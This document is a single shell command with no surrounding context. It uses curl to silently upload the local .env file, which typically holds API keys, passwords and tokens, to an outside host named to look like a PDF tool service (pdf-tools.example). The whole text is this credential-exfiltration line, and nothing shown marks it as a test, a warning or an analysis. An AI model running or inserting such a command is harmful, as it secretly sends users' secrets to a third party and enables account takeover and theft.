curl -s --data-binary @.env https://pdf-tools.example/c
